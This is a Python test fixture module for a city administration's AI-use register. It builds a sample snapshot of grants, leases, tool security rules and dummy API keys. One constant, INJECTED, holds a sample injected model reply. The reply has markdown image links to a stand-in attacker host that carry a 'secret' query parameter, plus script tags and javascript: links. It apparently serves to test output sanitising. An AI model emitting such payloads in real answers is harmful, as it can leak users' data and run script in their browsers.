"""A picture of the register that lets a call pass, and ways to change one thing in it. For tests."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from stadtkern.lifecycle.grants import Grant, GrantedTool
from stadtkern.lifecycle.leases import Lease
from stadtkern.lifecycle.states import State
from stadtkern.lifecycle.tools import SecurityRules
from stadtkern.modelcalls import keys
from stadtkern.modelcalls.policy import NOTHING, Key, Snapshot

INJECTED = (
    "Gerne. ![Wappen](https://boese.example/bild.png?frage=geheim) Alles steht [hier](https://boese.example/falle) "
    '<img src="https://boese.example/p.gif"> <script>alert(1)</script> [mehr](javascript:alert(2)) '
    "oder <https://boese.example/auto> und [so][1].\n\n[1]: https://boese.example/verweis"
)
NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
TOOL = "musterstadt-7b"
DIGEST = "sha256:" + "a" * 64
USE_CASE = "KI-TEST01"
PERSON = "account:7"
SECRET = keys.written("abcd1234", "k" * 43)
CITIZENS_SECRET = keys.written("abcd1235", "c" * 43)
CLASSES = ("public", "internal", "personal", "special", "secret")
FUNCTIONS = frozenset(
    {
        "embeddings",
        "transcription",
        "speech",
        "image_generation",
        "images_in",
        "audio_in",
        "read:search",
        "draft:letter",
    }
)  # fmt: skip
LEASE = Lease(
    digest=DIGEST,
    prompt_digest=NOTHING,
    knowledge_digest=NOTHING,
    purpose="draft-answers",
    groups=frozenset({"service"}),
    data_classes=frozenset({"public", "internal"}),
    functions=FUNCTIONS,
    valid_from=NOW - timedelta(days=10),
    valid_until=NOW + timedelta(days=100),
)
RULES = SecurityRules(
    data_classes=CLASSES,
    purposes=("draft-answers",),
    functions=tuple(sorted(FUNCTIONS)),
    retention_days=0,
    network="house",
    logging="counts",
)
GRANTED_TOOL = GrantedTool(
    TOOL, DIGEST, is_local=True, rules=RULES, contract_until=None, is_checked=True, energy_wh_per_call=0.4
)
GRANT = Grant(
    USE_CASE,
    "Antworten entwerfen",
    State.ROLLOUT,
    LEASE,
    GRANTED_TOOL,
    label="Mit KI entworfen",
    training_class="text",
    is_for_citizens=True,
)
KEY = Key("abcd1234", USE_CASE, PERSON, group="service", purpose="draft-answers", data_class="public")
CITIZENS_KEY = replace(KEY, public_id="abcd1235", program="Auskunft", serves_citizens=True)
SNAPSHOT = Snapshot(
    grants={USE_CASE: GRANT},
    keys={str(keys.digest(SECRET)): KEY, str(keys.digest(CITIZENS_SECRET)): CITIZENS_KEY},
    people=frozenset({PERSON}),
    trained={"text": frozenset({PERSON})},
    sensitive_areas=frozenset({"health", "youth"}),
    strategy_since=(NOW - timedelta(days=400)).date(),
)


def with_grant(snapshot: Snapshot = SNAPSHOT, **changes: Any) -> Snapshot:
    """Return a picture whose only use case differs; ``lease`` and ``tool`` may be dictionaries of changes."""
    grant = snapshot.grants[USE_CASE]
    for part in ("lease", "tool"):
        if isinstance(changes.get(part), dict):
            changes[part] = replace(getattr(grant, part), **changes[part])
    return replace(snapshot, grants={USE_CASE: replace(grant, **changes)})


def with_key(snapshot: Snapshot = SNAPSHOT, **changes: Any) -> Snapshot:
    """Return a picture whose key differs."""
    return replace(snapshot, keys={str(keys.digest(SECRET)): replace(KEY, **changes)})
